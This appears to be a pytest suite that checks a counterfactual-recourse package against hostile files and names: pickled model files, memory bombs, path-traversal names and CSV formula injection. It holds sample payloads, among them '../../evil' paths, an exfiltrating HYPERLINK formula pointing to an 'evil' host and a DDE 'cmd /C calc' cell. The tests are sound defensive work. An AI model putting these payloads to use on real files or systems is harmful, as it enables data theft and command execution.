"""Hostile files and names: no code is run, no excessive memory is used, nothing is written outside its folder."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
from pathlib import Path
from unittest import mock

import numpy as np
import pandas as pd
import pytest
import torch
from rose_carla import RoseOne, datasets, models
from carla.models.catalog import MLModelCatalog
from cli_examples import changed, folder, run  # noqa: F401 - fixtures
from hostile_files import BOMBS, SAVED_CLASSIFIERS
from rose_carla._lib.files import FileFormatError, load_arrays, save_arrays
from rose_carla.bench.runner import to_csv
from rose_carla.datasets.csv_files import csv_safe, csv_safe_frame
from rose_carla.errors import ModelError, PlanError

TINY = {"ppo": {"n_updates": 1, "n_envs": 8, "n_steps": 4, "hidden": 4}, "search": False, "n_check": 20}


@pytest.fixture(scope="module")
def policy(compas_linear, tmp_path_factory):
    """Arrays and metadata of a saved policy."""
    path = tmp_path_factory.mktemp("policy") / "policy.safetensors"
    RoseOne(compas_linear, TINY).save(path)
    return load_arrays(path)


# --- no code is run; for the files of this package see faults_files.hostile_files


NETWORK = {"learning_rate": 0.002, "epochs": 1, "batch_size": 512, "hidden_size": [4]}
FOREST = {"max_depth": 2, "n_estimators": 2}
#: Backend: kind of classifier, settings, and the file that CARLA saves it to.
CARLA_FILES = {
    "pytorch": ("ann", NETWORK, "ann_layers_4.pt"),
    "tensorflow": ("ann", NETWORK, "ann_layers_4.h5"),
    "sklearn": ("forest", FOREST, "forest.skjoblib"),
    "xgboost": ("forest", FOREST, "forest.xgjoblib"),
}


@pytest.mark.parametrize("name", SAVED_CLASSIFIERS)
@pytest.mark.filterwarnings("ignore:'torch.load' received a zip file", "ignore:You are saving your model")
def test_classifiers_saved_by_carla_are_not_unpickled(name, compas, tmp_path, monkeypatch):
    backend, save = SAVED_CLASSIFIERS[name]
    if backend in ("tensorflow", "xgboost"):
        pytest.importorskip({"tensorflow": "tf_keras"}.get(backend, backend))
    kind, settings, file = CARLA_FILES[backend]
    mark, path = tmp_path / "ran", tmp_path / "compas" / file
    path.parent.mkdir()
    monkeypatch.setenv("CF_MODELS", str(tmp_path))
    save(mark, path)
    with pytest.raises(ModelError, match=rf"{file}' is .*train\(..., force_train=True\)"):
        MLModelCatalog(compas, kind, backend=backend, load_online=False).train(**settings)
    assert not mark.exists()


def test_hostile_file_runs_code_without_protection(tmp_path):
    mark, path = tmp_path / "ran", tmp_path / "network"
    SAVED_CLASSIFIERS["torch"][1](mark, path)
    torch.load(path, weights_only=False)
    assert mark.exists()


def test_forced_training_replaces_a_forest_that_cannot_be_loaded(compas, tmp_path, monkeypatch):
    kind, settings, file = CARLA_FILES["sklearn"]
    (tmp_path / "compas").mkdir()
    (tmp_path / "compas" / file).write_bytes(b"a pickle")
    monkeypatch.setenv("CF_MODELS", str(tmp_path))
    for force_train in (True, False):
        forest = MLModelCatalog(compas, kind, backend="sklearn", load_online=False)
        forest.train(**settings, force_train=force_train)
        assert forest.predict_proba(compas.df_test.head(3)).shape == (3, 2)


# --- no excessive memory is used


@pytest.mark.parametrize("name", BOMBS)
def test_small_file_that_claims_much_memory_is_rejected(name, tmp_path):
    path = tmp_path / "bomb.safetensors"
    path.write_bytes(BOMBS[name]())
    tracemalloc.start()
    with pytest.raises(FileFormatError, match="is damaged"):
        load_arrays(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8e6 + 3 * path.stat().st_size


def test_folders_and_devices_are_not_read(tmp_path):
    for path in (tmp_path, tmp_path / "missing", Path("/dev/zero")):
        with pytest.raises(FileFormatError, match="not a regular file"):
            load_arrays(path)


def test_policy_larger_than_its_file_is_rejected(policy, compas_linear, tmp_path):
    arrays, metadata = policy
    ppo = {**metadata["settings"]["ppo"], "hidden": 3000}
    path = tmp_path / "policy.safetensors"
    save_arrays(path, arrays, {**metadata, "settings": {**metadata["settings"], "ppo": ppo}})
    with (
        mock.patch("rose_carla.ppo.policy.ActorCritic", side_effect=AssertionError("the network was made")),
        pytest.raises(PlanError, match="too few for 3,000 hidden units"),
    ):
        RoseOne.load(path, compas_linear)


# --- policies with a valid checksum and invalid contents

METADATA = {
    "no method": lambda metadata: metadata.pop("method"),
    "settings as text": lambda metadata: metadata.update(settings="all"),
    "setting out of range": lambda metadata: metadata.update(settings={**metadata["settings"], "tau": 7}),
    "setting of another type": lambda metadata: metadata.update(settings={**metadata["settings"], "ppo": [1]}),
    "slope of NaN": lambda metadata: metadata.update(slope=float("nan")),
    "slope beyond floats": lambda metadata: metadata.update(slope=10**400),
    "nested features": lambda metadata: metadata.update(features=[["age"]]),
    "short log": lambda metadata: metadata.update(log=[[1.0]]),
}
#: From the name of a weight and all arrays to changed arrays; None removes one.
ARRAYS = {
    "NaN": lambda name, arrays: {name: np.full_like(arrays[name], np.nan)},
    "another shape": lambda name, arrays: {name: arrays[name][..., :-1]},
    "missing weight": lambda name, arrays: {name: None},
    "integers": lambda name, arrays: {name: arrays[name].astype("u2")},
    "no fingerprint": lambda name, arrays: {"fingerprint": None},
}


@pytest.mark.parametrize("invalid", [*METADATA, *ARRAYS])
def test_policy_with_invalid_contents_is_rejected(invalid, policy, compas_linear, tmp_path):
    arrays, metadata = dict(policy[0]), dict(policy[1])
    if invalid in METADATA:
        METADATA[invalid](metadata)
    else:
        name = next(name for name in arrays if name.startswith("weights."))
        arrays |= ARRAYS[invalid](name, arrays)
    path = tmp_path / "policy.safetensors"
    save_arrays(path, {name: array for name, array in arrays.items() if array is not None}, metadata)
    with pytest.raises(PlanError) as rejected:
        RoseOne.load(path, compas_linear)
    assert len(str(rejected.value)) < 800


# --- nothing is written outside its folder

EVIL = "../../evil\\..\\x"


def test_names_in_data_do_not_become_paths(run, folder, tmp_path, monkeypatch):  # noqa: F811
    monkeypatch.setenv("ROSE_CARLA_CACHE", str(tmp_path / "cache"))
    frame = pd.read_csv(folder / "loans.csv").rename(columns={"income": EVIL, "home": "/etc/passwd"})
    data = datasets.from_frame(
        frame.replace({"rent": EVIL, "own": "/tmp/own"}), "loan", name=EVIL, favourable="granted", immutables=["age"]
    )
    RoseOne(models.train(data, "linear"), TINY).save(tmp_path / "policies" / "policy.safetensors")
    assert not [path for path in tmp_path.parent.rglob("*evil*") if tmp_path not in path.parents]
    for path in tmp_path.rglob("*"):
        assert re.fullmatch(r"[\w.-]+", path.name)

    def change(people):
        people["name"] = [f"{EVIL}{i}" for i in range(len(people))]

    before = {*folder.rglob("*"), *folder.parent.iterdir()}
    done = run("recourse", changed(folder, "evil.csv", change), "--policy", "policy", "--id", "name", "--out", "p.csv")
    assert done.code == 0
    after = {*folder.rglob("*"), *folder.parent.iterdir()}
    assert after - before == {folder / "evil.csv", folder / "p.csv"}


# --- no spreadsheet formulas in CSV files

FORMULAS = [
    '=HYPERLINK("//evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1"', "＝1+1",
    "a;=1", "a\n=1", "a\t@x", "-",
]  # fmt: skip


def formulas(text):
    """Return the cells that a spreadsheet would evaluate, whatever character its locale separates cells by."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    cells += [part.split(",")[0] for part in re.split(r"[;\t|\r\n]", text)]
    bare = [cell.strip('\0" \t') for cell in cells]
    return [cell for cell in bare if re.match(r"[=+\-@＝＋－＠]", cell) and not is_number(cell)]


def is_number(cell):
    try:
        return float(cell) is not None
    except ValueError:
        return False


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_becomes_text(formula):
    plain, safe = io.StringIO(), io.StringIO()
    csv.writer(plain).writerow(["a", formula])
    csv.writer(safe).writerow(["a", csv_safe(formula), csv_safe(f"x{formula}")])
    assert formulas(plain.getvalue())
    assert not formulas(safe.getvalue())
    assert csv_safe(formula).replace("'", "") == formula.replace("'", "")
    assert csv_safe(csv_safe(formula)) == csv_safe(formula)


@pytest.mark.parametrize("cell", ["-1.5", "+3", "1e-7", "-.5", "", "a-b", "a=b", "x, =1", 3, -2.5, None, True, "−5"])
def test_numbers_and_plain_text_are_unchanged(cell):
    assert csv_safe(cell) is cell or csv_safe(cell) == cell


def test_frames_are_written_without_formulas():
    frame = pd.DataFrame({"=Method": ["=1+1", "GrSp"], "Mean": [-1.5, 2.0], "kind": pd.Categorical(["@x", "y"])})
    assert not formulas(to_csv(frame))
    assert csv_safe_frame(frame)["Mean"].tolist() == [-1.5, 2.0]
    assert list(frame) == ["=Method", "Mean", "kind"]
    odd = pd.DataFrame([["=1", 2.5, "x", "@y"], ["z", -1.0, "=2", "w"]], columns=["a", "a", 3, "=b"], index=[7, 7])
    assert csv_safe_frame(odd).values.tolist() == [["'=1", 2.5, "x", "'@y"], ["z", -1.0, "'=2", "w"]]
    assert list(csv_safe_frame(odd)) == ["a", "a", 3, "'=b"]


def test_commands_write_no_formulas(run, folder):  # noqa: F811
    def name_people(frame):
        frame["name"] = [FORMULAS[i % len(FORMULAS)].strip() for i in range(len(frame))]

    def change(frame):
        name_people(frame)
        frame.loc[3, "income"], frame.loc[4, "home"] = "=1+1", "@SUM(A1)"

    done = run("recourse", changed(folder, "formulas.csv", change), "--policy", "policy", "--id", "name")
    assert done.code == 1
    assert not formulas(done.out)
    assert len([*csv.DictReader(io.StringIO(done.out))]) >= 40
    people = changed(folder, "formulas.csv", name_people)
    (folder / "=1+1.csv").write_bytes((folder / people).read_bytes())
    evaluate = ["evaluate", "--policy", "policy", "--people", people, "--samples", "20", "--format", "csv"]
    assert run(*evaluate, "--id", "name", "--per-person", "evaluated.csv").code == 0
    assert not formulas((folder / "evaluated.csv").read_text())
    done = run(*evaluate, "--counterfactuals", "=1+1.csv")
    assert "=1+1" in done.out
    assert not formulas(done.out)
